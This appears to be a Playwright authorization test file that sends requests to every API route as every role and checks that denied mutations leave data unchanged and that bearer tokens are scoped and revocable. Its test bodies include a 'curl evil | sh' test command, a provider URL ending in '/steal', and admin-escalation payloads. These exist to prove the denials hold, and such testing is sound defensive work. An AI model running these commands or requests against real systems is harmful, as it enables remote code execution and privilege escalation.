/**
 * Table-driven authorization: every route in lib/api/routes.ts × every role (+ anonymous), with real
 * HTTP requests against the production build. Denied mutations are sent with a valid body and must
 * leave the data unchanged (checked through an admin GET before and after).
 */
import path from "node:path";
import { expect, test, type APIRequestContext } from "@playwright/test";
import { listRouteFiles } from "../lib/api/route-files";
import { ROUTES, type RouteRule } from "../lib/api/routes";
import { ROLES, can, type Role } from "../lib/auth/permissions";
import { policyUpdateSchema } from "../lib/settings/policy";
import { providerCreateSchema, providerUpdateSchema } from "../lib/settings/providers";
import { repositoryCreateSchema, repositoryUpdateSchema } from "../lib/settings/repositories";
import { tokenCreateSchema } from "../lib/settings/tokens";
import { userCreateSchema, userUpdateSchema } from "../lib/settings/users";
import { E2E_BASE_URL, E2E_REPO_DIR, ROOT, authStatePath } from "./env";
import { apiAs } from "./helpers";

type Caller = Role | "anonymous";
const CALLERS: Caller[] = ["anonymous", ...ROLES];

test("every app/api route file and method has a rule in the registry", () => {
  const files = listRouteFiles(path.join(ROOT, "app"));
  expect(files.length).toBeGreaterThan(0);
  const missing = files.flatMap((f) =>
    f.methods.filter((m) => !ROUTES.some((r) => r.method === m && r.path === f.path)).map((m) => `${m} ${f.path}`),
  );
  expect(missing, "add these routes to lib/api/routes.ts").toEqual([]);
  const unregisteredFiles = files.filter((f) => f.methods.length === 0).map((f) => f.path);
  expect(unregisteredFiles).toEqual([]);
});

/** Real ids and valid bodies, so a missing check would really change data. */
interface Fixtures {
  repositoryId: string;
  providerId: string;
  submitterId: string;
}

function expectedFor(rule: RouteRule, caller: Caller): "allowed" | 401 | 403 {
  if (rule.access === "public") return "allowed";
  if (caller === "anonymous") return 401;
  if (rule.access === "authenticated") return "allowed";
  return can(caller, rule.access) ? "allowed" : 403;
}

function concretePath(rule: RouteRule, fx: Fixtures, mode: "probe" | "attack"): string {
  const idFor = (): string => {
    if (mode === "probe") return "does-not-exist";
    if (rule.path.startsWith("/api/settings/repositories/")) return fx.repositoryId;
    if (rule.path.startsWith("/api/settings/providers/")) return fx.providerId;
    if (rule.path.startsWith("/api/admin/users/")) return fx.submitterId;
    return "does-not-exist";
  };
  return rule.path
    .replace("[...nextauth]", rule.method === "GET" ? "providers" : "_log")
    .replace(/\[[^\]]+\]/g, () => idFor());
}

/** A body the route would accept, so a denial is the only thing stopping the change. */
function validBody(rule: RouteRule): unknown {
  const key = `${rule.method} ${rule.path}`;
  const bodies: Record<string, unknown> = {
    "POST /api/settings/repositories": { name: "sneaky-repo", path: E2E_REPO_DIR, defaultBranch: "main" },
    "PATCH /api/settings/repositories/[id]": { testCommand: "curl evil | sh" },
    "POST /api/settings/providers": { name: "sneaky", tier: "fast", baseUrl: "http://127.0.0.1:9/v1", model: "m" },
    "PATCH /api/settings/providers/[id]": { enabled: false, baseUrl: "http://127.0.0.1:9/steal" },
    "PUT /api/settings/policy": {
      minTestPassRate: 0,
      complexityThreshold: 1000,
      requiredGates: [],
      protectedPaths: [],
      maxReroutes: 0,
      maxAttempts: 1,
    },
    "POST /api/admin/users": { email: "intruder@gatehouse.local", name: "Intruder", role: "admin", password: "intruder-pass" },
    "PATCH /api/admin/users/[id]": { role: "admin" },
    "POST /api/tokens": { name: "sneaky" },
  };
  return bodies[key] ?? {};
}

test("the bodies used for denied mutations would be accepted, so the denial is what stops them", () => {
  const schemas: Record<string, { safeParse(v: unknown): { success: boolean } }> = {
    "POST /api/settings/repositories": repositoryCreateSchema,
    "PATCH /api/settings/repositories/[id]": repositoryUpdateSchema,
    "POST /api/settings/providers": providerCreateSchema,
    "PATCH /api/settings/providers/[id]": providerUpdateSchema,
    "PUT /api/settings/policy": policyUpdateSchema,
    "POST /api/admin/users": userCreateSchema,
    "PATCH /api/admin/users/[id]": userUpdateSchema,
    "POST /api/tokens": tokenCreateSchema,
  };
  for (const [key, schema] of Object.entries(schemas)) {
    const rule = ROUTES.find((r) => `${r.method} ${r.path}` === key);
    expect(rule, key).toBeDefined();
    expect(schema.safeParse(validBody(rule!)).success, key).toBe(true);
  }
});

/** The admin GET whose answer must not change after a denied mutation. */
function snapshotPath(rule: RouteRule): string | null {
  if (rule.path.startsWith("/api/settings/repositories")) return "/api/settings/repositories";
  if (rule.path.startsWith("/api/settings/providers")) return "/api/settings/providers";
  if (rule.path.startsWith("/api/settings/policy")) return "/api/settings/policy";
  if (rule.path.startsWith("/api/admin/users")) return "/api/admin/users";
  return null;
}

async function send(api: APIRequestContext, method: string, url: string, body?: unknown) {
  return api.fetch(url, {
    method,
    data: body === undefined ? undefined : JSON.stringify(body),
    headers: body === undefined ? undefined : { "content-type": "application/json" },
    maxRedirects: 0,
  });
}

test.describe("route registry × roles", () => {
  const apis = new Map<Caller, APIRequestContext>();
  let fx: Fixtures;

  test.beforeAll(async () => {
    for (const c of CALLERS) apis.set(c, await apiAs(c));
    const admin = apis.get("admin")!;
    // A repository to attack, created through the real API (also proves the happy path works).
    // beforeAll runs again in a fresh worker after a failure, so reuse the one made earlier.
    const existing = (await (await send(admin, "GET", "/api/settings/repositories")).json()) as {
      repositories: { id: string; name: string }[];
    };
    let repositoryId = existing.repositories.find((r) => r.name === "authz-target")?.id;
    if (!repositoryId) {
      const created = await send(admin, "POST", "/api/settings/repositories", {
        name: "authz-target",
        path: E2E_REPO_DIR,
        defaultBranch: "main",
        testCommand: "npm test",
      });
      expect(created.status(), await created.text()).toBe(201);
      repositoryId = ((await created.json()) as { repository: { id: string } }).repository.id;
    }
    const providers = (await (await send(admin, "GET", "/api/settings/providers")).json()) as { providers: { id: string; name: string }[] };
    const users = (await (await send(admin, "GET", "/api/admin/users")).json()) as { users: { id: string; email: string }[] };
    fx = {
      repositoryId,
      providerId: providers.providers.find((p) => p.name === "recorded-fast")!.id,
      submitterId: users.users.find((u) => u.email === "submitter@gatehouse.local")!.id,
    };
  });

  test.afterAll(async () => {
    // Leave the shared e2e database as the seed made it for the specs that follow.
    if (fx?.repositoryId) await send(apis.get("admin")!, "DELETE", `/api/settings/repositories/${fx.repositoryId}`);
    for (const api of apis.values()) await api.dispose();
  });

  for (const rule of ROUTES) {
    for (const caller of CALLERS) {
      const expected = expectedFor(rule, caller);
      test(`${rule.method} ${rule.path} as ${caller} → ${expected}`, async () => {
        const api = apis.get(caller)!;
        if (expected === "allowed") {
          // Probe without side effects: GETs read, mutations get an empty body or an unknown id.
          const body = rule.method === "GET" || rule.method === "DELETE" ? undefined : {};
          const res = await send(api, rule.method, concretePath(rule, fx, "probe"), body);
          const status = res.status();
          expect([401, 403], `${status} ${await res.text()}`).not.toContain(status);
          expect(status, await res.text()).toBeLessThan(500);
          // A GET may reject missing query parameters (400) or, with a made-up id, answer 404.
          if (rule.method === "GET") {
            const ok = status < 300 || status === 400 || (status === 404 && rule.path.includes("["));
            expect(ok, `GET answered ${status}`).toBe(true);
          }
          return;
        }
        const snap = rule.method !== "GET" ? snapshotPath(rule) : null;
        const admin = apis.get("admin")!;
        const before = snap ? await (await send(admin, "GET", snap)).text() : null;
        const res = await send(api, rule.method, concretePath(rule, fx, "attack"), rule.method === "GET" || rule.method === "DELETE" ? undefined : validBody(rule));
        expect(res.status(), await res.text()).toBe(expected);
        const body = (await res.json()) as { error?: unknown; stack?: unknown };
        expect(typeof body.error).toBe("string");
        expect(body.stack).toBeUndefined();
        if (snap) {
          const after = await (await send(admin, "GET", snap)).text();
          expect(after, `denied ${rule.method} ${rule.path} as ${caller} changed data`).toBe(before);
        }
      });
    }
  }
});

test.describe("API tokens", () => {
  test("a bearer token acts with its owner's role until revoked", async ({ playwright }) => {
    const submitter = await apiAs("submitter");
    const created = await send(submitter, "POST", "/api/tokens", { name: "e2e-ci" });
    expect(created.status()).toBe(201);
    const { token, apiToken } = (await created.json()) as { token: string; apiToken: { id: string; prefix: string } };
    expect(token).toMatch(/^gat_/);
    expect(token.startsWith(apiToken.prefix)).toBe(true);

    const bearer = await playwright.request.newContext({ extraHTTPHeaders: { authorization: `Bearer ${token}` } });
    const base = E2E_BASE_URL;
    const me = await bearer.get(`${base}/api/me`);
    expect(me.status()).toBe(200);
    expect(((await me.json()) as { user: { role: string }; via: string })).toMatchObject({ user: { role: "submitter" }, via: "token" });
    expect((await bearer.get(`${base}/api/settings/policy`)).status()).toBe(403);

    const listed = (await (await submitter.get("/api/tokens")).json()) as { tokens: { id: string; lastUsedAt: string | null }[] };
    expect(listed.tokens.find((t) => t.id === apiToken.id)?.lastUsedAt).not.toBeNull();
    expect(JSON.stringify(listed)).not.toContain(token);

    // Another user cannot revoke it.
    const reviewer = await apiAs("reviewer");
    expect((await reviewer.delete(`/api/tokens/${apiToken.id}`)).status()).toBe(404);
    expect((await bearer.get(`${base}/api/me`)).status()).toBe(200);

    expect((await submitter.delete(`/api/tokens/${apiToken.id}`)).status()).toBe(200);
    expect((await bearer.get(`${base}/api/me`)).status()).toBe(401);
    // A bad token never falls back to the cookie session sent alongside it.
    const mixed = await playwright.request.newContext({
      storageState: authStatePath("admin"),
      extraHTTPHeaders: { authorization: "Bearer gat_forged" },
    });
    expect((await mixed.get(`${base}/api/me`)).status()).toBe(401);
    for (const c of [submitter, reviewer, bearer, mixed]) await c.dispose();
  });
});
